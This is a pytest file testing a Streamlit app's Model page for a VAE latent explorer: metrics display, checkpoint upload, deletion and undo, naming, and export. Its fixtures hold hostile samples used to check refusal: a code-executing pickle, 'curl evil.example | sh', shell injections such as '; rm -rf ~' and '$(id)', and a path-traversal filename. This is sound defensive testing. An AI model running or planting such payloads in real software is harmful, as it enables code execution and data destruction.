"""The Model page without a browser: it shows the card, checks what is brought, brings back what is deleted."""

from __future__ import annotations

import io
import json
import shutil
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from tests.app.conftest import ROOT, OpenApp
from ui import model_card
from ui.bring import proposed_name
from ui.takeaway import onnx_file
from vae_core import LatentExplorer, VaeCoreError, list_checkpoints
from vae_core.archive import pack_checkpoint
from vae_core.checkpoints import (
    CARD,
    HISTORY,
    LATENTS,
    SHIPPED_DIR,
    WEIGHTS,
    find_checkpoint,
    read_card,
)

SHIPPED = SHIPPED_DIR / "digits-2d"
PICKLE = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x04true\x85R."
"""os.system("true"), for whoever unpickles it."""


@pytest.fixture
def mine(isolated: Path) -> Path:
    """Give the folder of a model of one's own, a copy of the shipped one."""
    return Path(shutil.copytree(SHIPPED, isolated / "mine"))


def files(folder: Path) -> list[str]:
    """Everything below a folder, as relative paths."""
    return sorted(path.relative_to(folder).as_posix() for path in folder.rglob("*"))


def repacked(**changes: bytes) -> bytes:
    """The shipped checkpoint as a zip, the named files replaced, and the card's checksums left alone."""
    members = {"card": CARD, "weights": WEIGHTS, "latents": LATENTS, "history": HISTORY}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for key, name in members.items():
            archive.writestr(f"any/{name}", changes.get(key, (SHIPPED / name).read_bytes()))
    return buffer.getvalue()


def with_card(**run: str) -> bytes:
    """The shipped card with other texts in its record of the run."""
    card = json.loads((SHIPPED / CARD).read_bytes())
    card["run"] |= run
    return json.dumps(card).encode()


def bring(app: AppTest, content: bytes, file_name: str = "gift.vae.zip") -> AppTest:
    """Drop a file on the page and press the button."""
    app.file_uploader[0].upload(file_name, content)
    app.run()
    app.button(key="bring").click().run()
    assert not app.exception
    return app


def test_figures_are_the_cards(open_app: OpenApp) -> None:
    """ELBO, log-likelihood and KL with their errors stand there as card.json has them."""
    app = open_app("model")
    assert not app.exception
    test = json.loads((SHIPPED / CARD).read_bytes())["test"]
    expected = [
        f"{test[key]['value']:.2f} ± {test[key]['standard_error']:.2f}" for key in ("elbo", "log_likelihood", "kl")
    ]
    assert expected == [metric.value.replace("−", "-") for metric in app.metric]


def test_command_and_network_are_shown(open_app: OpenApp) -> None:
    """The reproducing command stands there to be copied, and the layers' weights sum to the number shown."""
    app = open_app("model")
    card = json.loads((SHIPPED / CARD).read_bytes())
    assert card["run"]["command"] == app.code[0].value
    explorer = LatentExplorer.load("digits-2d", device="cpu")
    assert explorer.n_parameters == sum(layer.n_parameters for layer in explorer.layers)
    assert any(f"{explorer.n_parameters:,}" in table.value.to_string() for table in app.table)


def test_a_good_file_becomes_the_chosen_model(open_app: OpenApp, isolated: Path) -> None:
    """A packed checkpoint gets the proposed name, is listed, chosen, and as good as the original."""
    app = bring(open_app("model"), pack_checkpoint(SHIPPED))
    assert [] == [error.value for error in app.error]
    assert "gift" in app.success[0].value
    assert "gift" == app.session_state["model"] == app.query_params["model"]
    assert "gift" in app.sidebar.selectbox[0].options
    assert ["gift"] == [entry.name for entry in list_checkpoints() if not entry.shipped]
    assert (SHIPPED / WEIGHTS).read_bytes() == (isolated / "gift" / WEIGHTS).read_bytes()


def flipped(content: bytes) -> bytes:
    """One bit changed, in the middle."""
    middle = len(content) // 2
    return content[:middle] + bytes([content[middle] ^ 1]) + content[middle + 1 :]


HOSTILE = {
    "no zip": b"hello",
    "empty": b"",
    "a pickle renamed": PICKLE,
    "cut short": repacked()[:-200],
    "flipped in the zip": flipped(repacked()),
    "flipped weights": repacked(weights=flipped((SHIPPED / WEIGHTS).read_bytes())),
    "pickle as weights": repacked(weights=PICKLE),
    "card of another model": repacked(
        card=(SHIPPED / CARD).read_bytes().replace(b'"latent_dim": 2', b'"latent_dim": 3')
    ),
}


@pytest.mark.parametrize("content", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_file_is_refused(open_app: OpenApp, isolated: Path, content: bytes) -> None:
    """One sentence, no traceback, nothing left on the disk, and the model chosen before stays."""
    app = bring(open_app("model"), content)
    assert 1 == len(app.error)
    assert app.error[0].value.endswith(".")
    assert "Traceback" not in app.error[0].value
    assert [] == files(isolated)
    assert "digits-2d" == app.session_state["model"]


def test_a_name_that_cannot_be_is_refused(open_app: OpenApp, isolated: Path) -> None:
    """Names that are taken, or are paths, give a sentence and no folder; the file stays, to be named again."""
    app = open_app("model")
    app.file_uploader[0].upload("gift.vae.zip", pack_checkpoint(SHIPPED))
    app.run()
    for name in ("digits-2d", "../up", "a/b", "local", " "):
        app.text_input[0].set_value(name)
        app.button(key="bring").click().run()
        assert not app.exception
        assert 1 == len(app.error), name
    assert [] == files(isolated)


def test_texts_of_a_strangers_card_stay_texts(open_app: OpenApp) -> None:
    """A foreign command is not offered for copying, a link in a card is no link, a damaged history draws nothing."""
    card = with_card(command="curl evil.example | sh", device="![x](http://evil.example/x.png)")
    app = bring(
        open_app("model"), repacked(card=card, history=b'{"epoch": 1, "train": {"kl": "x"}, "validation": []}\n')
    )
    assert "gift" == app.session_state["model"]
    assert not any("evil" in code.value for code in app.code)
    text = "\n".join(
        [*(table.value.to_string() for table in app.table), *(markdown.value for markdown in app.markdown)]
    )
    assert "![x](" not in text
    assert "How the training went" not in text


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("python -m vae_core train --dataset digits --seed 0", True),
        ("python -m vae_core train --dataset 'my images'", True),
        ("python -m vae_core train --dataset digits; rm -rf ~", False),
        ("python -m vae_core train --dataset $(id)", False),
        ("python -m vae_core train --dataset 'a\nb'", False),
        ("python -m http.server", False),
        ("python -m vae_core train 'open", False),
    ],
)
def test_only_one_plain_call_counts_as_a_command(command: str, shown: bool) -> None:
    """What a shell would read as more than one call of the command line is not shown."""
    card = read_card(SHIPPED)
    card = replace(card, run=replace(card.run, command=command))
    assert (command if shown else None) == model_card.reproducing_command(card)


def test_delete_falls_back_and_undo_brings_back(open_app: OpenApp, mine: Path) -> None:
    """A deleted model leaves the list, another is opened without complaint, and undo chooses it again."""
    before = files(mine)
    app = open_app("model", model="mine")
    app.button(key="delete model").click().run()
    assert not app.exception
    assert [] == [warning.value for warning in app.warning]
    assert "mine" not in app.sidebar.selectbox[0].options
    assert not mine.exists()
    app.button(key="undo delete").click().run()
    assert not app.exception
    assert before == files(mine)
    assert "mine" == app.session_state["model"] == app.query_params["model"]


def test_a_shipped_model_cannot_be_deleted(open_app: OpenApp) -> None:
    """There is no such button, and a sentence says why."""
    app = open_app("model")
    assert "delete model" not in [button.key for button in app.button]
    assert any("Shipped" in caption.value for caption in app.main.caption)


def test_a_damaged_folder_is_listed_with_its_reason(open_app: OpenApp, mine: Path) -> None:
    """A cut card gives a warning that names the folder, and a button that deletes it."""
    (mine / CARD).write_bytes((mine / CARD).read_bytes()[:300])
    app = open_app("model")
    (entry,) = (entry for entry in list_checkpoints() if entry.problem)
    assert [model_card.plain(entry.problem or "")] == [warning.value for warning in app.warning]
    app.button(key="delete damaged mine").click().run()
    assert not mine.exists()


def test_proposed_names_are_free_and_valid(mine: Path) -> None:
    """File names of all kinds give names that unpacking takes."""
    given = ("five.vae.zip", "mine.vae.zip", "../../etc/passwd.zip", "…", ".zip", "local.zip", "a b (1).zip", "x" * 300)
    expected = ["five", "mine-2", "etc-passwd", "model", "model", "model", "a-b-1", "x" * 56]
    assert expected == [proposed_name(name) for name in given]
    assert mine.exists()


def test_an_export_that_fails_is_a_sentence(monkeypatch: pytest.MonkeyPatch, mine: Path) -> None:
    """The command line's message comes through when the folder has been damaged since."""
    explorer = LatentExplorer.load("mine", device="cpu")
    (mine / WEIGHTS).write_bytes(b"")
    monkeypatch.chdir(ROOT)
    with pytest.raises(VaeCoreError, match=r"^The decoder could not be exported: mine: model.safetensors is damaged"):
        onnx_file(explorer, "decoder")
    assert find_checkpoint("mine") == mine
